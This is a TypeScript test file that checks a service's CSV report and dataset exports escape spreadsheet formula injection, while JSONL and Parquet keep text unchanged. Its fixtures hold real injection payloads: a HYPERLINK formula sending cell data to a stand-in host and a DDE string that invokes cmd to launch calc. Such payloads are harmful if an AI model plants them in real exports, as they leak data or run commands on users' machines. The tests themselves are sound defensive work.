/**
 * CSV formula injection (issue 9, finding 7): text a spreadsheet would run as
 * a formula (=, +, -, @, tab, carriage return first) comes out of report CSVs
 * and dataset CSV exports with a leading single quote; numbers stay numbers,
 * and JSONL and Parquet carry the text exactly as it was given.
 */
import { parse as parseCsv } from "csv-parse/sync";
import { parquetReadObjects } from "hyparquet";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { invoiceType, makeKey, makeType, makeUser } from "../support/db";
import { createDataset, createSnapshot, downloadSnapshot, snapshotAt } from "../support/api";
import { CORRECTED, reviewed } from "../support/labelled";
import { startServer, waitForSnapshot, type TestServer } from "../support/server";

const LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const NOTE = "@SUM(1+1)*cmd|' /C calc'!A0";
const MODEL = "+malicious-model";
const TAB = "\tindented";

describe("CSV formula injection", () => {
  let s: TestServer;
  let manager: string;
  beforeAll(async () => {
    s = await startServer();
    const owner = await makeUser(s.db, "manager");
    const reviewer = await makeUser(s.db, "reviewer");
    await makeType(
      s.db,
      invoiceType(owner.email, {
        reasonCodes: [
          { code: "WRONG_TOTAL", label: LINK },
          { code: "NOT_AN_INVOICE", label: "-2+3" },
        ],
      }),
    );
    await reviewed(
      s.db,
      reviewer,
      "csv-1",
      { action: "correct", output: CORRECTED, reasonCodes: ["WRONG_TOTAL"], note: NOTE },
      { model: { name: MODEL, version: TAB } },
    );
    await reviewed(s.db, reviewer, "csv-2", { action: "reject", reasonCodes: ["NOT_AN_INVOICE"], note: LINK });
    manager = await makeKey(s.db, ["read", "admin"], owner.email);
  });
  afterAll(async () => s?.close());

  it("report CSVs escape hostile text cells and keep numbers as numbers", async () => {
    const res = await s.request<string>("/reports/csv?table=reasons&type=invoice", { key: manager });
    expect(res.status).toBe(200);
    const rows = parseCsv(res.body as string, { columns: true }) as Record<string, string>[];
    const byCode = Object.fromEntries(rows.map((r) => [r.code, r]));
    expect(byCode.WRONG_TOTAL.label).toBe(`'${LINK}`);
    expect(byCode.NOT_AN_INVOICE.label).toBe("'-2+3");
    expect(byCode.WRONG_TOTAL.count).toBe("1");
    expect(byCode.WRONG_TOTAL.share).toBe("0.5");
  });

  it("dataset CSV exports escape hostile text cells; JSONL and Parquet stay exact", async () => {
    const created = await createDataset(s, manager, { name: "Hostile", filter: { type: "invoice" } });
    expect(created.status).toBe(201);
    const snap = await createSnapshot(s, manager, created.body.id, {});
    expect(snap.status).toBe(202);
    const location = snap.headers.get("Location")!;
    expect(await waitForSnapshot(s, manager, location)).toMatchObject({ status: "ready", rowCount: 2 });
    const download = async (format: "csv" | "jsonl") => String((await downloadSnapshot(s, manager, snapshotAt(location), { format, split: "all" })).body);

    const csv = parseCsv(await download("csv"), { columns: true }) as Record<string, string>[];
    const one = csv.find((r) => r.externalId === "csv-1")!;
    const two = csv.find((r) => r.externalId === "csv-2")!;
    expect(one.note).toBe(`'${NOTE}`);
    expect(one.modelName).toBe(`'${MODEL}`);
    expect(one.modelVersion).toBe(`'${TAB}`);
    expect(two.note).toBe(`'${LINK}`);
    expect(one.confidence).toBe("0.5");
    expect(JSON.parse(one.reasonCodes)).toEqual(["WRONG_TOTAL"]);

    const lines = (await download("jsonl"))
      .trimEnd()
      .split("\n")
      .map((l) => JSON.parse(l));
    const j1 = lines.find((l) => l.externalId === "csv-1");
    expect(j1).toMatchObject({ note: NOTE, modelName: MODEL, modelVersion: TAB });
    expect(lines.find((l) => l.externalId === "csv-2").note).toBe(LINK);

    const parquet = await downloadSnapshot(s, manager, snapshotAt(location), { format: "parquet", split: "all" }, "arrayBuffer");
    const objs = (await parquetReadObjects({ file: parquet.body as unknown as ArrayBuffer })) as Record<string, unknown>[];
    expect(objs.find((o) => o.externalId === "csv-1")).toMatchObject({ note: NOTE, modelName: MODEL, modelVersion: TAB });
    expect(objs.find((o) => o.externalId === "csv-2")!.note).toBe(LINK);
  });
});
